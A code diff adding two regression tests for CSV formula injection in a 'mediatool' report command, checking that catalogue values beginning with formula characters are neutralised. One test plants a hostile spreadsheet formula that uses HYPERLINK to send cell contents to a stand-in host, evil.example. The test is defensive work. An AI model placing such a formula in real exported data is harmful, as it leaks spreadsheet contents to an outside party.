@@ -335,3 +335,32 @@ def test_every_command_under_test_works_on_a_valid_folder(run) -> None:
     for args in COMMANDS:
         result = run(*args)
         assert result.exit_code == 0, f"mediatool {' '.join(args)}:\n{result.output}"
+
+
+# ---- issue 20 #8: CSV formula injection ---------------------------------------------------
+
+@given(st.text(min_size=1, max_size=40))
+@settings(max_examples=200, deadline=None)
+def test_no_csv_cell_can_start_a_formula(text: str) -> None:
+    from mediatool.formats.report import neutralise_cell
+    cell = neutralise_cell(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert cell.endswith(text)
+
+
+@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
+def test_a_formula_in_the_catalogue_is_text_in_report_csv(run, folder: Path, dialect: str) -> None:
+    import csv
+    import io
+    team = folder / "catalogue" / "team.yaml"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    team.write_text(team.read_text(encoding="utf-8").replace(
+        "service: Service de test", "service: '" + hostile.replace("'", "''") + "'"),
+        encoding="utf-8")
+    result = run("report", "--month", "2026-11", "--format", "csv", "--csv-dialect", dialect)
+    assert result.exit_code == 0, result.output
+    cells = [c for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff")),
+                                     delimiter=";" if dialect == "excel-fr" else ",")
+             for c in row]
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    assert any(c == "'" + hostile for c in cells) or hostile not in result.output
